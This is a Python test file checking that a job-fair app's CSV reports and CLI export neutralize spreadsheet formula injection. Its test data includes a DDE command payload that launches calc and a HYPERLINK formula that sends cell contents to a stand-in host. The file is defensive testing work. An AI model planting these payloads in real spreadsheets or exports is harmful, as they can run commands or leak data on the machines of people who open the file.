"""Hostile input: formula cells in every export."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from pathlib import Path

from support import Gateway

from fairhub.config import Settings
from fairhub.report import spreadsheet_cell

HYPERLINK = '=HYPERLINK("http://x"&A1,"点击查看")'


# ---------- Spreadsheet exports ----------


def test_formula_text_is_neutralized_and_numbers_stay_numbers() -> None:
    for text in ("=1+2", "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)", "\tx", "\r=1", HYPERLINK):
        assert spreadsheet_cell(text) == "'" + text
    # A figure is a number, negative too; text that is a whole number is read as one, not run.
    for value in (-5, 0, 3.5, "-12", "+86", "2.5", "华为", ""):
        assert spreadsheet_cell(value) == value
    assert spreadsheet_cell(None) == ""


async def _renamed_employer_fair(gateway: Gateway) -> tuple[str, str]:
    """A fair whose employer named itself a formula with its own token."""
    fair, token = await gateway.create_fair("@秋季双选会")
    employer = await gateway.create(fair, token, "employers", name="正常企业", booth="-12")
    status, body = await gateway.request(
        "PATCH", f"/v1/fairs/{fair}/employers/{employer['id']}", employer["token"],
        json={"name": HYPERLINK},
    )  # fmt: skip
    assert status == 200 and body["name"] == HYPERLINK, body
    await gateway.create(fair, token, "employers", name="+1 东区", booth="=A1")
    return fair, token


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _check_neutralized(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert "'@秋季双选会" in cells and "'+1 东区" in cells and "'=A1" in cells
    assert "-12" in cells  # a booth that is a plain number is left alone
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # Figures are still bare numbers in the summary (the metric's value column).
    assert rows[4][1].isdigit()


async def test_the_organizers_report_csv_carries_no_live_formula(
    gateway: Gateway, settings: Settings, tmp_path: Path
) -> None:
    fair, token = await _renamed_employer_fair(gateway)
    for lang in ("zh", "en"):
        async with gateway.session.get(
            f"{gateway.base}/v1/fairs/{fair}/report.csv?lang={lang}",
            headers={"Authorization": f"Bearer {token}"},
        ) as response:
            assert response.status == 200
            _check_neutralized(_cells(await response.read()))

    # `fairhub report FAIR -o report.csv` writes the same neutralized cells.
    out = tmp_path / "report.csv"
    env = {**os.environ, "FAIRHUB_DATABASE_URL": str(settings.database_url)}
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "fairhub", "report", fair, "-o", str(out), env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    _, err = await process.communicate()
    assert process.returncode == 0, err
    _check_neutralized(_cells(out.read_bytes()))
